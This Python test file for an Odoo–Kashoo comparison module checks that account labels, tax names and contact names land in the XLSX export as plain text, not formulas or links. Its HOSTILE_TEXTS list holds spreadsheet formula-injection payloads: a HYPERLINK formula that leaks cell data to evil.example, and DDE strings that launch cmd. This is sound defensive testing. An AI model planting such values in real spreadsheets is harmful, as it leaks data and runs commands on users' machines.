import io
import zipfile
from datetime import date

import openpyxl

from odoo.tests import tagged

from .common import KashooCommon

# Text a spreadsheet would run if it took it for a formula, one per leading character that
# Excel and LibreOffice treat as the start of one.
HOSTILE_TEXTS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    # Not a formula, but the writer's default would make it a live link.
    "https://evil.example/login",
)


@tagged("post_install", "-at_install")
class TestXlsxKashooText(KashooCommon):
    """What Kashoo sends ends up in the XLSX export as text, never as a formula or a link."""

    def _report(self, text):
        report = self.env["kashoo.books.comparison"].create(
            {
                "backend_id": self.backend.id,
                "date_from": date(2026, 1, 1),
                "date_to": date(2026, 1, 31),
                "state": "discrepancy",
            }
        )
        line = self.env["kashoo.books.comparison.line"].create(
            {
                "comparison_id": report.id,
                "section": "account",
                "kashoo_account_label": text,
                "kashoo_balance": 10.0,
                "odoo_balance": 0.0,
                "difference": 10.0,
            }
        )
        self.env["kashoo.books.comparison.line"].create(
            {"comparison_id": report.id, "section": "tax", "tax_names": text}
        )
        self.env["kashoo.books.comparison.detail"].create(
            {
                "line_id": line.id,
                "kashoo_id": 50017,
                "kashoo_type": text,
                "kashoo_number": text,
                "kashoo_amount": 10.0,
            }
        )
        self.env["kashoo.books.comparison.aging"].create(
            {"comparison_id": report.id, "kind": "receivable", "contact_name": text}
        )
        return report

    def test_kashoo_text_is_written_as_text(self):
        for text in HOSTILE_TEXTS:
            with self.subTest(text=text):
                raw = self._report(text)._kashoo_xlsx_attachment().raw
                with zipfile.ZipFile(io.BytesIO(raw)) as archive:
                    for name in archive.namelist():
                        if name.startswith("xl/worksheets/sheet"):
                            self.assertNotIn(b"<f>", archive.read(name), name)
                            self.assertNotIn(b"<f ", archive.read(name), name)
                        self.assertFalse(name.startswith("xl/worksheets/_rels"), name)
                workbook = openpyxl.load_workbook(io.BytesIO(raw))
                found = []
                for sheet in workbook.worksheets:
                    for row in sheet.iter_rows(min_row=5):
                        for cell in row:
                            if cell.value == text:
                                self.assertEqual(cell.data_type, "s", (sheet.title, cell))
                                self.assertIsNone(cell.hyperlink)
                                found.append(sheet.title)
                self.assertEqual(
                    sorted(set(found)),
                    sorted(["Accounts", "Sales Taxes", "Receivables and Payables", "Differences"]),
                )
